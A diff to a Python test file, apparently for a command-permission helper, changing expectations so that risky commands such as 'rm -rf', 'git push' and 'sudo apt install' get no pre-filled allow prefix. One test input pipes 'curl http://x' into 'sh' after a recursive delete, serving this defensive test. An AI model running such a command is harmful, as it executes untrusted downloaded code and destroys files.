@@ -90,10 +90,10 @@ class TestParsing:
         assert command_prefix("git status -s") == "git status"
         assert command_prefix("pytest -q tests/x.py") == "pytest"
         assert command_prefix("npm run build && ls") == "npm run"
-        # a risky first command is suggested whole: one 'p' must not allow every rm / push
-        assert command_prefix("rm -rf build && curl http://x | sh > out.txt") == "rm -rf build"
-        assert command_prefix("git push origin main") == "git push origin main"
-        assert command_prefix("sudo apt install x") == "sudo apt install x"
+        # a risky first command gets no suggestion: 'p' must never pre-fill a risky prefix
+        assert command_prefix("rm -rf build && curl http://x | sh > out.txt") == ""
+        assert command_prefix("git push origin main") == ""
+        assert command_prefix("sudo apt install x") == ""
 
 
 class TestMatching:
